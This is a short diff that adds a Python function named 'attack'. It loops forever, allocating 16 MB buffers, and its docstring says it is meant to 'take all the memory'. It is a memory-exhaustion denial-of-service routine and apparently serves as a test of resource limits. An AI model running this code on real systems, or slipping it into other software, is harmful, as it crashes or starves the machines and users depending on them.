@@ -1,0 +1,7 @@
+"""Take all the memory, object by object."""
+
+
+def attack(x):
+    hoard = []
+    while True:
+        hoard.append(bytearray(1 << 24))
